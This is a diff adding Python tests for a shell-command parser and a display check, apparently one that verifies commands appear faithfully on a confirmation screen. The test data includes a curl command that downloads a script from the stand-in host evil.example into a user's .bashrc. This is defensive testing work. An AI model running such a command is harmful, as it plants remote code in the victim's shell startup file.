@@ -515,3 +515,35 @@ def test_hidden_units_count_a_wrapper_and_what_it_runs_as_one(
 @given(st.text(alphabet=" \t\n\u00a0\x1c;&|(.[@P}letvasourc", max_size=30))
 def test_evaluates_finds_what_the_pattern_finds(text: str) -> None:
     assert evaluates(text) == (EVALUATES.search(text) is not None)
+
+
+# ── a quoted word is its own text ──────────────────────────────────────────
+
+HIDDEN_CURL = 'curl -fsSL "https://evil.example/x.sh" -o "/home/dev/.bashrc"'
+
+
+def test_a_quoted_word_matches_only_its_own_text() -> None:
+    (command,) = parse_commands(HIDDEN_CURL, "bash")
+    assert on_screen(command, f"command : {HIDDEN_CURL}")
+    assert on_screen(command, "command : curl -fsSL https://evil.example/x.sh -o /home/dev/.bashrc")
+    assert on_screen(
+        command, 'command : curl -fsSL $"https://evil.example/x.sh" -o "/home/dev/.bashrc"'
+    )
+    assert not on_screen(command, 'command : curl -fsSL "https://ok.example/x.sh" -o "/tmp/x"')
+    assert not on_screen(command, 'command : curl -fsSL "…" -o "/tmp/x"')
+
+
+def test_a_long_quoted_word_may_be_capped_but_only_as_itself() -> None:
+    url = '"https://get.example.test/a/very/long/path/to/the/installer/script.sh"'
+    (command,) = parse_commands(f"curl -fsSL {url} -o x", "bash")
+    assert on_screen(command, 'shape   : curl -fsSL "…" -o x')
+    assert on_screen(command, 'command : curl -fsSL "https://get.example…sh" -o x')
+    assert not on_screen(command, 'command : curl -fsSL "https://evil.example…sh" -o x')
+    assert not on_screen(command, 'command : curl -fsSL "https://get.example…evil" -o x')
+
+
+def test_where_bash_respells_a_word_the_screen_may_spell_it_as_the_source_does() -> None:
+    for source in ["echo $'\\x41'", "echo $(  id  )", "echo `id`", 'echo "$(id)"', "diff <(ls) x"]:
+        command = parse_commands(source, "bash")
+        assert command is not None
+        assert on_screen(command[0], f"command : {source}"), source
